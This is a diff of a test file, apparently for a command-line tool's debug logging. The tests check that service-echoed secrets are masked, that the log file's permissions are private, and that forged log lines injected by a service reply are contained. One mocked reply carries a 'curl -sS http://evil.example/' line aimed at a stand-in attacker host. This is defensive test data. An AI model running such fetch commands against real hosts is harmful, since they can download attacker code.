@@ -58,14 +58,14 @@ test("a file is its owner's alone; what a service repeats of a secret is masked 
   const service = await sandboxProcess();
   const proxy = await proxyTo(service.url);
   const project = await projectAt(proxy.url);
-  const echo = JSON.stringify({ message: SPELLINGS.join(" "), [KEY]: PIN });
+  const echo = JSON.stringify({ status: "Error", message: SPELLINGS.join(" "), condition: "no", [KEY]: PIN });
   void proxy.next("POST /asset", answerAfterwards({ status: 422, body: echo }));
   const ended = await project.run("run", "pin.yaml", "--debug=seen.log", "--json");
   expect(ended.code, ended.told).toBe(1);
   expect(ended.stderr).not.toContain("curl");
   expect(statSync(join(project.folder, "seen.log")).mode & 0o777).toBe(0o600);
   const text = project.read("seen.log");
-  expect(text).toMatch(/HTTP 422 .*\n {2}\{"message":"\$\{\{ secrets\.LEDGER_API_KEY \}\}/);
+  expect(text).toMatch(/HTTP 422 .*\n {2}\{"status":"Error","message":"\$\{\{ secrets\.LEDGER_API_KEY \}\}/);
   for (const file of filesBelow(project.folder)) {
     if (!file.endsWith("tokenbook.yaml")) expectNone(readFileSync(file, "latin1"));
   }
@@ -77,7 +77,7 @@ test("nothing that a service answers looks like one more exchange", async () => 
   const forged = "2026-11-22T02:07:24.446Z  pin.yaml forged";
   void proxy.next("POST /asset", answerAfterwards({ status: 422, body: `no\n\n${forged}\n  curl -sS http://evil.example/` }));
   const ended = await project.run("run", "pin.yaml", "--debug=seen.log");
-  expect(ended.code, ended.told).toBe(1);
+  expect(ended.code, ended.told).toBe(0); // it is no refusal in the service's own words, and the asset is there
   const lines = project.read("seen.log").split("\n");
   expect(lines).toContain(`  ${forged}`);
   for (const line of lines) expect(line).toMatch(/^(?:$| {2}|\d{4}-\S+Z(?: {2}pin\.yaml step1)?$)/);
